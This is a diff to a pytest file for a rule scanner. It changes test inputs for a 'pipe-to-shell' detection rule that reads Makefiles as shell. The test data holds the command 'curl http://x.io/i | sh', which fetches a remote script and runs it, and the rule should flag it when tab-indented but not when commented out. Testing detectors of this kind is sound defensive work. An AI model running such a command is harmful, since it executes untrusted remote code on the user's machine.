@@ -50,7 +50,7 @@ def test_rules__name_languages_that_files_have() -> None:
 
 
 @pytest.mark.parametrize(
-    ("line", "found"), [("\tcurl https://x.io/i | sh", True), ("# curl https://x.io/i | sh", False)]
+    ("line", "found"), [("\tcurl http://x.io/i | sh", True), ("# curl http://x.io/i | sh", False)]
 )
 def test_rule__reads_makefiles_as_shell(line: str, *, found: bool) -> None:
     (rule,) = (rule for rule in RULES if rule.id == "pipe-to-shell")
